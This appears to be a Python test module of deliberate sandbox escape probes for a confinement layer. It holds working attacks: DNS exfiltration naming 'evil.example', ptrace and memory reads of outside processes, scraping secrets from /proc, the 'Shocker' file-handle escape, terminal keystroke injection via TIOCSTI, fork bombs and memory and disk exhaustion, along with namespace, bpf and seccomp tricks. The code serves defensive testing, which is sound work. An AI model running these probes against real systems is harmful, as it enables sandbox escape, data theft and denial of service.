"""Attacks on the sandbox from inside, in plain Python: ``python -m ...hostile ATTACK ARGUMENTS``.

Each says ``succeeded`` or why it failed. A call that the sandbox forbids ends the process instead.
"""

from __future__ import annotations

import array
import ctypes
import fcntl
import mmap
import os
import signal
import socket
import struct
import sys
import time
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

from foundation import confined

LIBC = ctypes.CDLL(None, use_errno=True)
MACHINE = os.uname().machine
CALLS = {
    "x86_64": {
        "bpf": 321, "perf_event_open": 298, "userfaultfd": 323, "add_key": 248, "keyctl": 250,
        "io_uring_setup": 425, "clone3": 435, "personality": 135, "name_to_handle_at": 303,
        "open_by_handle_at": 304, "memfd_create": 319,
    },
    "aarch64": {
        "bpf": 280, "perf_event_open": 241, "userfaultfd": 282, "add_key": 217, "keyctl": 219,
        "io_uring_setup": 425, "clone3": 435, "personality": 92, "name_to_handle_at": 264,
        "open_by_handle_at": 265, "memfd_create": 279,
    },
}  # fmt: skip
CLONE_NEWUSER = 0x10000000
TIOCSTI = 0x5412
FAMILIES = {
    "AF_UNIX": 1, "AF_INET": 2, "AF_INET6": 10, "AF_NETLINK": 16, "AF_PACKET": 17, "AF_ALG": 38,
    "AF_VSOCK": 40, "AF_XDP": 44,
}  # fmt: skip
MIB = 2**20

Found = object
ATTACKS: dict[str, Callable[..., Found]] = {}


def attack(function: Callable[..., Found]) -> Callable[..., Found]:
    """Make a function an attack, under its name. It returns what it got, or raises OSError."""
    ATTACKS[function.__name__] = function
    return function


def call(name: str, *arguments: object) -> int:
    """Make a system call by number."""
    return checked(LIBC.syscall(CALLS[MACHINE][name], *arguments), name)


def checked(result: int, name: str) -> int:
    """Return a call's result, or raise its error."""
    if result < 0:
        raise OSError(ctypes.get_errno(), f"{name}: {os.strerror(ctypes.get_errno())}")
    return result


# ---- the network ---------------------------------------------------------------------------------


def _say(family: int, address: object, kind: int = socket.SOCK_STREAM) -> str:
    with socket.socket(family, kind) as one:
        one.settimeout(5)
        one.connect(address)  # type: ignore[arg-type]
        one.sendall(b"patient 1")
    return "sent"


@attack
def ipv4(port: str) -> Found:
    return _say(socket.AF_INET, ("127.0.0.1", int(port)))


@attack
def ipv6(port: str) -> Found:
    return _say(socket.AF_INET6, ("::1", int(port)))


@attack
def unix(path: str) -> Found:
    return _say(socket.AF_UNIX, path)


@attack
def abstract(name: str) -> Found:
    return _say(socket.AF_UNIX, "\0" + name)


@attack
def dns(port: str) -> Found:
    """A patient as the name that is asked for (RFC 1035): exfiltration through a resolver."""
    labels = b"".join(bytes([len(label)]) + label for label in (b"patient-1", b"evil", b"example"))
    question = struct.pack("!6H", 1, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.connect(("127.0.0.1", int(port)))
        for _ in range(2):  # where nobody listens, the second is refused
            one.send(question)
            time.sleep(0.05)
    return "asked"


@attack
def families() -> Found:
    """Any socket at all: each family is a part of the kernel."""
    made = []
    for name, number in FAMILIES.items():
        with suppress(OSError):
            kind = socket.SOCK_SEQPACKET if name == "AF_ALG" else socket.SOCK_STREAM
            kind = socket.SOCK_RAW if name in ("AF_PACKET", "AF_NETLINK", "AF_XDP") else kind
            socket.socket(number, kind).close()
            made.append(name)
    return made


@attack
def datagram_pair() -> Found:
    """A pair of datagram sockets can be sent elsewhere, by an address for each message."""
    one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    return one.fileno()


@attack
def out_of_band() -> Found:
    """CVE-2025-38236: out-of-band bytes on a Unix stream."""
    one, other = socket.socketpair()
    one.send(b"x", socket.MSG_OOB)
    return other.recv(1, socket.MSG_OOB)


# ---- other processes -----------------------------------------------------------------------------


@attack
def ptrace(victim: str) -> Found:
    """PTRACE_SEIZE of a process outside."""
    return "seized" if checked(LIBC.ptrace(0x4206, int(victim), 0, 0), "ptrace") == 0 else ""


@attack
def ptrace_of_a_child() -> Found:
    """The tracer's part of the kernel, on a child of ours (CVE-2019-13272)."""
    child = os.fork()
    if child == 0:
        os._exit(7 if LIBC.ptrace(0, 0, 0, 0) == 0 else 1)
    _, ended = os.waitpid(child, 0)
    return "traced" if os.WIFEXITED(ended) and os.WEXITSTATUS(ended) == 7 else ""


@attack
def process_memory(victim: str, address: str) -> Found:
    """process_vm_readv of a process outside."""
    buffer = ctypes.create_string_buffer(16)
    local = (ctypes.c_uint64 * 2)(ctypes.addressof(buffer), 16)
    remote = (ctypes.c_uint64 * 2)(int(address, 16), 16)
    LIBC.process_vm_readv.restype = ctypes.c_ssize_t
    checked(LIBC.process_vm_readv(int(victim), local, 1, remote, 1, 0), "process_vm_readv")
    return buffer.raw.hex()


@attack
def command_lines(secret: str) -> Found:
    """Whatever /proc tells of others."""
    found = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        with suppress(OSError):
            if secret[::-1].encode() in path.read_bytes():
                found.append(path.parent.name)
    return found


@attack
def signals(victim: str) -> Found:
    os.kill(int(victim), signal.SIGTERM)
    return "sent"


# ---- files ---------------------------------------------------------------------------------------


@attack
def reads(path: str) -> Found:
    return Path(path).read_text()


@attack
def writes(path: str) -> Found:
    with Path(path).open("ab") as file:
        return file.write(b"x")


@attack
def links(path: str) -> Found:
    """A symbolic link of our own to a file outside, and a hard one."""
    with suppress(OSError):
        os.link(path, "/tmp/hard")
        return Path("/tmp/hard").read_text()
    Path("/tmp/soft").symlink_to(path)
    return Path("/tmp/soft").read_text()


@attack
def handles(path: str) -> Found:
    """Krahmer's "Shocker" (2014): files by their inode number, past every mount."""
    handle = ctypes.create_string_buffer(8 + 128)
    struct.pack_into("I", handle, 0, 128)
    mount = ctypes.c_int()
    call("name_to_handle_at", -100, path.encode(), handle, ctypes.byref(mount), 0)
    folder = os.open(path, os.O_RDONLY)
    return call("open_by_handle_at", folder, handle, os.O_RDONLY)


@attack
def fills_the_disk(folder: str, mebibytes: str) -> Found:
    for number in range(int(mebibytes)):
        Path(folder, str(number)).write_bytes(bytes(MIB))
    return mebibytes


# ---- the machine's memory, processes -------------------------------------------------------------


@attack
def fork_bomb(count: str) -> Found:
    for _ in range(int(count)):
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
    return count


@attack
def private_memory(mebibytes: str) -> Found:
    hold = []
    for _ in range(int(mebibytes) // 8):
        hold.append(bytearray(8 * MIB))
    return len(hold)


@attack
def many_memories(processes: str, mebibytes: str) -> Found:
    """A process stays within its limit; many of them don't stay within it together."""
    children = []
    for _ in range(int(processes)):
        if (child := os.fork()) == 0:
            hold = bytearray(int(mebibytes) * MIB)
            time.sleep(2)
            os._exit(len(hold) // MIB % 2)
        children.append(child)
    return all(os.waitpid(child, 0)[1] == 0 for child in children)


@attack
def shared_memory(mebibytes: str) -> Found:
    """Memory that counts against no limit of a process."""
    size = int(mebibytes) * MIB
    hold = mmap.mmap(-1, size, mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
    hold[:size:4096] = bytes(size // 4096)
    return size


@attack
def memory_files(count: str) -> Found:
    for _ in range(int(count)):
        descriptor = call("memfd_create", b"bomb", 0)
        os.write(descriptor, bytes(MIB))
    return count


# ---- the kernel's other parts --------------------------------------------------------------------


@attack
def io_uring() -> Found:
    return call("io_uring_setup", 4, ctypes.create_string_buffer(256))


@attack
def user_namespace() -> Found:
    return checked(LIBC.unshare(CLONE_NEWUSER), "unshare") == 0


@attack
def user_namespace_by_clone() -> Found:
    """clone3, whose flags lie in memory where no filter looks."""
    order = struct.pack("11Q", CLONE_NEWUSER, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, 0, 0, 0)
    buffer = ctypes.create_string_buffer(order)
    child = call("clone3", buffer, 88)
    if child == 0:
        LIBC._exit(0)
    os.waitpid(child, 0)
    return child


@attack
def keys() -> Found:
    """A key in a keyring (CVE-2016-0728), which no namespace of the sandbox keeps apart."""
    return call("add_key", b"user", b"wardgate-test", b"patient", 7, -3)


@attack
def reads_keys() -> Found:
    return call("keyctl", 0, -3, 1)


@attack
def bpf() -> Found:
    order = struct.pack("5I", 2, 4, 4, 1, 0)  # BPF_MAP_TYPE_ARRAY
    return call("bpf", 0, ctypes.create_string_buffer(order.ljust(120, b"\0")), 120)


@attack
def perf_events() -> Found:
    order = struct.pack("IIQ", 1, 112, 0).ljust(112, b"\0")  # PERF_TYPE_SOFTWARE
    return call("perf_event_open", ctypes.create_string_buffer(order), 0, -1, -1, 0)


@attack
def user_faults() -> Found:
    return call("userfaultfd", 0)


@attack
def weaker_addresses() -> Found:
    """Without randomised addresses, the next attack is easier."""
    return call("personality", 0x0040000) >= 0


@attack
def mounts() -> Found:
    return checked(LIBC.mount(b"none", b"/tmp", b"tmpfs", 0, None), "mount") == 0


@attack
def another_filter() -> Found:
    """PR_SET_SECCOMP: a filter of our own could make set calls seem to succeed."""
    allow = struct.pack("HBBI", 0x06, 0, 0, 0x7FFF0000)
    code = ctypes.create_string_buffer(allow)
    program = ctypes.create_string_buffer(struct.pack("HxxxxxxQ", 1, ctypes.addressof(code)))
    return checked(LIBC.prctl(22, 2, program, 0, 0), "prctl") == 0


@attack
def devices(*wanted: str) -> Found:
    return [name for name in wanted if Path("/dev", name).exists()]


# ---- what is left open ---------------------------------------------------------------------------


@attack
def descriptors() -> Found:
    found = []
    for number in range(3, 256):
        with suppress(OSError):
            data = os.pread(number, 100, 0)
            found.append(data)
    return [data for data in found if b"secret" in data]


@attack
def environment() -> Found:
    """Our own, bubblewrap's, and that of whoever can be seen."""
    found = [name for name, value in os.environ.items() if "secret" in value]
    for path in Path("/proc").glob("[0-9]*/environ"):
        with suppress(OSError):
            if b"=secret" in path.read_bytes():
                found.append(str(path))
    return found


@attack
def typing() -> Found:
    """CVE-2017-5226: type into the terminal that we were started from."""
    terminal = os.open("/dev/tty", os.O_RDWR)
    for letter in b"patient\n":
        fcntl.ioctl(terminal, TIOCSTI, bytes([letter]))
    return "typed"


@attack
def typing_in_64_bits() -> Found:
    """CVE-2019-7303: the kernel looks at 32 bits of the command; a filter may look at more."""
    terminal = os.open("/dev/tty", os.O_RDWR)
    letter = array.array("b", b"\n")
    command = ctypes.c_ulong(TIOCSTI | 1 << 32)
    address, _ = letter.buffer_info()
    return checked(LIBC.ioctl(terminal, command, ctypes.c_void_p(address)), "ioctl") == 0


# ---- what goes out -------------------------------------------------------------------------------


@attack
def floods(size: str) -> Found:
    """An endless log."""
    left = int(size)
    while left > 0:
        left -= os.write(2, b"patient " * 8192)
    return size


@attack
def huge_reply(descriptor: str, size: str) -> Found:
    """A frame that is larger than agreed."""
    out = int(descriptor)
    os.write(out, struct.pack("!cIQ", b"R", 0, int(size)))
    left = int(size)
    while left > 0:
        left -= os.write(out, bytes(min(left, 65536)))
    return size


@attack
def slow_reply(descriptor: str, size: str) -> Found:
    """Hansen's Slowloris (2009): byte after byte, each in good time."""
    out = int(descriptor)
    os.write(out, struct.pack("!cIQ", b"R", int(size), 0))
    for _ in range(int(size)):
        time.sleep(0.05)
        os.write(out, b"x")
    return size


def main(name: str, *arguments: str) -> None:
    """Attack, and say how it went."""
    confined.enter()
    try:
        got = ATTACKS[name](*arguments)
    except (OSError, MemoryError) as error:
        print(f"failed: {error!r}", flush=True)
        return
    print(f"succeeded: {got!r}" if got else "failed: it got nothing", flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
